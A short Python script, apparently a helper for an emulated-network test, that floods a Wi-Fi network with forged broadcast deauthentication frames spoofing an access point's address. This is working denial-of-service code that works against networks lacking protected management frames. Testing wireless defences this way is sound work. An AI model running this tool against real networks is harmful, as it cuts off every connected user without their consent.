"""A stranger's radio that sends every device of a network away, again and again.

usage: deauthenticate.py READY_FILE INTERFACE ACCESS_POINT_MAC EVERY_S
Runs inside the emulated machine as root, on an interface in monitor mode. It sends forged
deauthentication frames (IEEE 802.11 clause 9.3.3.12, reason 7) in the access point's name; a
network without protected management frames believes them.
"""

import socket
import struct
import sys
import time
from pathlib import Path

RADIOTAP = bytes((0, 0, 8, 0, 0, 0, 0, 0))
DEAUTHENTICATION, EVERYONE, REASON = 0x00C0, b"\xff" * 6, 7


def main() -> None:
    """Send one frame, wait, and so on."""
    ready, interface, access_point, every_s = sys.argv[1:]
    sender = bytes.fromhex(access_point.replace(":", ""))
    air = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    air.bind((interface, 0))
    Path(ready).touch()
    number = 0
    while True:
        number = (number + 1) % 4096
        header = struct.pack("<HH", DEAUTHENTICATION, 0) + EVERYONE + sender + sender
        air.send(RADIOTAP + header + struct.pack("<HH", number << 4, REASON))
        time.sleep(float(every_s))


main()
